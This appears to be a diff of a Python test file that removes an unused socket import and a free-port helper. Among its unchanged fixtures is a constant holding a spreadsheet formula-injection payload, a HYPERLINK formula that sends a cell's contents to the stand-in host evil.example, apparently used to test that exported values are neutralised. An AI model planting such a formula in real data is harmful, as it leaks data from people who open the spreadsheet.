@@ -8,7 +8,6 @@ import base64
 import hashlib
 import random
 import re
-import socket
 from collections.abc import Iterator
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
@@ -36,12 +35,6 @@ API_TOKEN = "tok_0123456789abcdef0123456789abcdef"
 NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC).timestamp()
 VISITOR = "c0ffee00-visitor-with-history"
 INJECTION_UA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-def free_port() -> int:
-    with socket.socket() as sock:
-        sock.bind(("127.0.0.1", 0))
-        return int(sock.getsockname()[1])
 
 
 def scrypt_hash(password: str, n: int = 2**10) -> str:
